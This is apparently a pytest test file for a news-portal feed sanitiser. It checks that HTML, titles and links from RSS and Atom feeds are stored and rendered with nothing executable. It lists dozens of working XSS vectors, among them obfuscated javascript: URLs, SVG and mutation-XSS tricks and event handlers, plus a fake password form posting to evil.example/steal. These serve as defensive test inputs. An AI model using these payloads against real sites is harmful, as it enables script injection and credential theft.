"""Feed HTML, titles and links: hostile input stored or rendered carries nothing executable;
images only from allowed https origins, sized and lazy; links only http(s)."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from jinja2 import Environment

from portal.news.feeds.media import for_reading, https_origin, image_size, origin_setting
from portal.news.feeds.parse import parse_feed
from portal.news.feeds.sanitize import clean_html, plain_text, safe_link

BASE = "https://feeds.example.com/news/feed.xml"
REL = "noopener noreferrer nofollow"

HOSTILE = {
    "entity-encoded scheme": '<a href="&#106;avascript:alert(1)">x</a>',
    "tab in scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "newline in scheme": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "leading control char": '<a href=" &#14;javascript:alert(1)">x</a>',
    "named entity colon": '<a href="javascript&colon;alert(1)">x</a>',
    "capitals": '<a href="JAVASCRIPT:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data svg url": '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    "svg xlink:href": '<svg><a xlink:href="javascript:alert(1)"><text x="2">x</text></a></svg>',
    "svg animate": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text>x</text></a></svg>"
    ),
    "svg set": '<svg><set attributeName="onmouseover" to="alert(1)"/><rect/></svg>',
    "svg onload": '<svg onload="alert(1)"><circle r="5"/></svg>',
    "form with password": (
        '<form action="https://evil.example/steal"><input type="password" name="p">'
        '<button formaction="javascript:alert(1)">Sign in</button></form>'
    ),
    "input formaction": '<input type="image" formaction="javascript:alert(1)">',
    "style attribute": '<p style="background:url(javascript:alert(1))">styled</p>',
    "style element": '<style>body{background:url("javascript:alert(1)")}</style><p>after</p>',
    "script": "<script>alert(1)</script><p>after</p>",
    "script in template": "<template><script>alert(1)</script></template>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "img javascript src": '<img src="javascript:alert(1)">',
    "body onload": '<body onload="alert(1)"><p>x</p></body>',
    "div onmouseover": '<div onmouseover="alert(1)">hover</div>',
    "details ontoggle": '<details open ontoggle="alert(1)"><summary>s</summary></details>',
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    "a onclick": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "base href": '<base href="https://evil.example/"><a href="page">x</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "xmp mxss": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "math mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "select style mxss": "<select><style></select><img src=x onerror=alert(1)></style>",
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "link stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "table background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "comment": "<!--<img src=x onerror=alert(1)>--><p>after</p>",
    "unclosed attribute": '<a href="https://ok.example/ onmouseover=alert(1)//">x</a>',
    "class and id": '<p class="btn" id="login" data-x="1">x</p>',
    "target blank": '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
}

FORBIDDEN_TAGS = frozenset(
    {
        "script", "form", "input", "button", "iframe", "frame", "svg", "math", "style", "base",
        "meta", "link", "object", "embed", "img", "animate", "set", "noscript", "template",
        "textarea", "select", "video", "source", "body", "xmp", "details",
    }
)  # fmt: skip
FORBIDDEN_ATTRIBUTES = frozenset(
    {"style", "srcdoc", "src", "formaction", "action", "xlink:href", "target", "class", "id"}
)
SAFE_SCHEMES = ("http", "https")
IMAGES = frozenset({"https://feeds.example.com", "https://ok.example"})  # allowed image origins
_TAB_NEWLINE = dict.fromkeys(map(ord, "\t\n\r"))


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_nothing_executable(markup: str, *, images: frozenset[str] = frozenset()) -> None:
    """No dangerous element, no event or style attribute, only http(s) URLs, rel on links; an
    image only from `images` (https origins), lazy."""
    lowered = markup.lower()
    assert "<script" not in lowered
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    for tag, attrs in collector.tags:
        if tag == "img" and images:
            given = dict(attrs)
            assert https_origin(given.get("src")) in images, markup
            assert given.get("loading") == "lazy" and "alt" in given, markup
            attrs = [(name, value) for name, value in attrs if name != "src"]
        else:
            assert tag not in FORBIDDEN_TAGS, markup
        names = [name for name, _ in attrs]
        for name, value in attrs:
            assert not name.startswith("on"), markup
            assert name not in FORBIDDEN_ATTRIBUTES, markup
            if name == "href":
                url = html.unescape(value or "").translate(_TAB_NEWLINE).strip().lower()
                assert url.startswith(tuple(f"{s}:" for s in SAFE_SCHEMES)), markup
            elif value:
                assert not re.search(r"(?:javascript|vbscript|data):", value, re.I), markup
        if tag == "a":
            assert ("rel", REL) in attrs and names.count("rel") == 1, markup


_JINJA = Environment(autoescape=True)
_PAGE = _JINJA.from_string('<article class="news">{{ body|safe }}</article><h2>{{ title }}</h2>')


def render(body: str, title: str = "") -> str:
    """How the web pages show stored news: the cleaned HTML with |safe, titles escaped."""
    return _PAGE.render(body=body, title=title)


@pytest.mark.parametrize("vector", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_is_stored_and_rendered_without_anything_executable(vector):
    for base, images in ((BASE, frozenset()), (None, frozenset()), (BASE, IMAGES)):
        stored = clean_html(vector, base_url=base, image_origins=images)
        assert "<!--" not in stored
        assert_nothing_executable(stored, images=images)
        page = render(stored)
        assert_nothing_executable(
            page.replace('<article class="news">', "<article>"), images=images
        )
        # Sanitising the stored HTML again changes nothing: no mutation on re-parsing.
        assert clean_html(stored, base_url=base, image_origins=images) == stored
        # As the pages show it: the same, links in a new tab with the hint.
        shown = for_reading(stored, images)
        assert_nothing_executable(
            re.sub(r'( target="_blank"| class="visually-hidden")', "", shown), images=images
        )


# The comment vector is inert as it stands; it checks that comments are stripped.
FLAGGED_RAW = {name: vector for name, vector in HOSTILE.items() if name != "comment"}


@pytest.mark.parametrize("vector", FLAGGED_RAW.values(), ids=FLAGGED_RAW.keys())
def test_the_checker_flags_every_raw_vector(vector):
    """The checks above are not vacuous: unsanitised, each vector fails them."""
    with pytest.raises(AssertionError):
        assert_nothing_executable(vector)


def test_hostile_vectors_in_a_feed_are_harmless_end_to_end():
    items = "".join(
        f"<item><title>{html.escape(vector)}</title><guid>v{number}</guid>"
        f"<link>javascript:alert({number})</link>"
        f"<description>{html.escape(vector)}</description>"
        f"<content:encoded><![CDATA[{vector}]]></content:encoded></item>"
        for number, vector in enumerate(HOSTILE.values())
    )
    body = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>Hostile</title><link>https://evil.example/</link>{items}</channel></rss>"
    ).encode()
    parsed = parse_feed(body, url=BASE)
    assert len(parsed.entries) == len(HOSTILE)
    for entry in parsed.entries:
        assert safe_link(entry.link, BASE) is None
        title = plain_text(entry.title)
        for raw in (entry.summary, entry.content):
            stored = clean_html(raw, base_url=BASE)
            assert_nothing_executable(stored)
            assert_nothing_executable(render(stored, title).replace(' class="news"', ""))


def test_atom_xhtml_content_with_hostile_markup_is_harmless():
    body = (
        b'<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        b"<title>t</title><id>urn:x</id><updated>2024-01-01T00:00:00Z</updated>"
        b"<entry><id>urn:e</id><title>e</title><updated>2024-01-01T00:00:00Z</updated>"
        b'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        b'<a href="javascript:alert(1)" onclick="alert(2)">a</a>'
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b'<a xlink:href="javascript:alert(3)"><text>x</text></a></svg>'
        b"<script>alert(4)</script></div></content></entry></feed>"
    )
    (entry,) = parse_feed(body).entries
    stored = clean_html(entry.content, base_url=BASE)
    assert_nothing_executable(stored)
    assert "alert" not in stored


def test_allowed_markup_survives():
    stored = clean_html(
        '<h2>Head</h2><p class="lead">Hello <strong>you</strong> <em>there</em><br>'
        '<a href="https://ok.example/a?b=1&amp;c=2" title="T">link</a> '
        '<a href="mailto:hr@example.com">mail</a></p><ul><li>one</li></ul>'
        "<blockquote>q</blockquote><pre><code>x = 1</code></pre>"
        '<table><thead><tr><th scope="col">h</th></tr></thead>'
        '<tbody><tr><td colspan="2">d</td></tr></tbody></table>',
        base_url=BASE,
    )
    # Only http(s) links stay links: the mailto one is unwrapped, its text kept.
    assert stored == (
        "<h2>Head</h2><p>Hello <strong>you</strong> <em>there</em><br>"
        f'<a href="https://ok.example/a?b=1&amp;c=2" title="T" rel="{REL}">link</a> '
        "mail</p><ul><li>one</li></ul>"
        "<blockquote>q</blockquote><pre><code>x = 1</code></pre>"
        '<table><thead><tr><th scope="col">h</th></tr></thead>'
        '<tbody><tr><td colspan="2">d</td></tr></tbody></table>'
    )


def test_relative_links_are_resolved_against_the_base_or_dropped():
    markup = '<a href="../about">a</a><a href="//cdn.example.org/x">b</a>'
    assert clean_html(markup, base_url=BASE) == (
        f'<a href="https://feeds.example.com/about" rel="{REL}">a</a>'
        f'<a href="https://cdn.example.org/x" rel="{REL}">b</a>'
    )
    assert clean_html(markup) == "ab"
    assert clean_html(markup, base_url="javascript:alert(1)") == clean_html(markup)


def test_images_are_dropped_without_allowed_origins():
    assert clean_html('<p>a<img src="https://cdn.example.org/x.png" alt="x">b</p>') == "<p>ab</p>"


LAZY = 'loading="lazy" decoding="async"'


def test_images_from_allowed_https_origins_are_kept_sized_and_lazy():
    stored = clean_html(
        '<p><img src="/img/a.png" alt="Our new office" width="4000" height="3000" '
        'onerror="alert(1)" srcset="https://evil.example/a.png 2x" style="width:9000px">'
        '<img src="https://ok.example/b.png" width="50%" height="80">'
        '<img src="http://ok.example/c.png" alt="http">'
        '<img src="https://cdn.example.org/d.png" alt="other origin">'
        '<img src="https://user@ok.example/e.png" alt="user name">'
        '<img src="https://ok.example/pixel.gif" width="1" height="1">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="data"></p>',
        base_url=BASE,
        image_origins=IMAGES,
    )
    assert stored == (
        '<p><img src="https://feeds.example.com/img/a.png" alt="Our new office" width="1200" '
        f'height="900" {LAZY}><img src="https://ok.example/b.png" alt="" height="80" {LAZY}></p>'
    )


@pytest.mark.parametrize(
    ("width", "height", "kept"),
    [
        ("640", "480", (640, 480)),
        ("2400", "600", (1200, 300)),
        ("600", "2400", (300, 1200)),
        ("5000", None, (1200, None)),
        (None, "3000", (None, 1200)),
        ("300px", " 200 ", (300, 200)),
        ("100%", "auto", (None, None)),
        ("1", "200", None),
        ("0", None, None),
    ],
)
def test_image_sizes_are_clamped_or_removed(width, height, kept):
    assert image_size(width, height) == kept


def test_reading_opens_links_in_a_new_tab_and_rechecks_images():
    stored = (
        f'<p><a href="https://ok.example/story" rel="{REL}">story</a> '
        f'<img src="https://ok.example/a.png" alt="A" {LAZY}>'
        f'<img src="https://gone.example/b.png" alt="B" {LAZY}></p>'
    )
    # gone.example is no longer allowed: that image goes, whatever was stored.
    assert for_reading(stored, IMAGES) == (
        f'<p><a href="https://ok.example/story" target="_blank" rel="{REL}">story'
        '<span class="visually-hidden"> (opens in a new tab)</span></a> '
        f'<img src="https://ok.example/a.png" alt="A" {LAZY}></p>'
    )
    # What was stored before images were kept renders too (mailto links are unwrapped now).
    old = f'<p>Hi <a href="mailto:hr@example.com" rel="{REL}">HR</a></p>'
    assert for_reading(old, IMAGES) == "<p>Hi HR</p>"


@pytest.mark.parametrize(
    ("value", "origin"),
    [
        ("https://Images.Example.com", "https://images.example.com"),
        ("https://images.example.com/", "https://images.example.com"),
        ("https://images.example.com:443", "https://images.example.com"),
        ("https://images.example.com:8443", "https://images.example.com:8443"),
        ("http://images.example.com", None),
        ("https://images.example.com/path", None),
        ("https://user@images.example.com", None),
        ("https://images.example.com; script-src *", None),
        ("images.example.com", None),
    ],
)
def test_configured_image_origins_must_be_bare_https_origins(value, origin):
    assert origin_setting(value) == origin


def test_empty_html():
    assert clean_html("") == ""


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("Plain title", "Plain title"),
        ("Tom &amp; Jerry", "Tom & Jerry"),
        ("a < b and c > d", "a < b and c > d"),
        ("<b>Bold</b> <script>alert(1)</script>move", "Bold move"),
        ("<p>One</p><p>Two</p>", "One Two"),
        ("  lots\n\tof   space ", "lots of space"),
        ("ctrl\x00\x07\x1b\x7f\x85chars", "ctrlchars"),
        ("bidi \u202eevil\u202c \u2066x\u2069", "bidi evil x"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
        ("", ""),
    ],
)
def test_plain_text(raw, text):
    assert plain_text(raw) == text


def test_plain_text_is_escaped_when_rendered():
    page = render("", plain_text("&lt;script&gt;alert(1)&lt;/script&gt;"))
    assert "<script" not in page
    assert "&lt;script&gt;" in page


def test_plain_text_truncates():
    assert plain_text("word " * 200, max_length=12) == "word word…"
    assert len(plain_text("x" * 1000)) == 500


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://news.example.com/a?b=1#c", "https://news.example.com/a?b=1#c"),
        ("HTTP://News.Example.com/", "http://News.Example.com/"),
        ("  https://news.example.com/x  ", "https://news.example.com/x"),
        ("https://news.example.com/a b", "https://news.example.com/a%20b"),
        ("/relative/path", "https://feeds.example.com/relative/path"),
        ("page?x=1", "https://feeds.example.com/news/page?x=1"),
        ("//cdn.example.org/x", "https://cdn.example.org/x"),
        ("javascript:alert(1)", None),
        ("JAVASCRIPT:alert(1)", None),
        ("jav&#x09;ascript:alert(1)", None),
        ("jav\tascript:alert(1)", None),
        ("&#106;avascript:alert(1)", None),
        ("\x01 javascript:alert(1)", None),
        ("java\x00script:alert(1)", None),
        ("vbscript:msgbox(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("mailto:hr@example.com", None),
        ("ftp://files.example.com/", None),
        ("https://user:pass@news.example.com/", None),
        ("https://bank.example.com@evil.example/", None),
        ("https:\\\\evil.example", None),
        ("/\\evil.example", None),
        ("https:evil.example", None),
        ("https://news.example.com:99999/", None),
        ("https://[::1/", None),
        ("https://x.example/" + "a" * 3000, None),
        ("", None),
        (None, None),
    ],
)
def test_safe_link(url, expected):
    assert safe_link(url, "https://feeds.example.com/news/feed.xml") == expected


def test_safe_link_without_base_refuses_relative_addresses():
    assert safe_link("/path") is None
    assert safe_link("//evil.example/x") is None
    assert safe_link("/path", "javascript:alert(1)") is None
    assert safe_link("https://ok.example/") == "https://ok.example/"
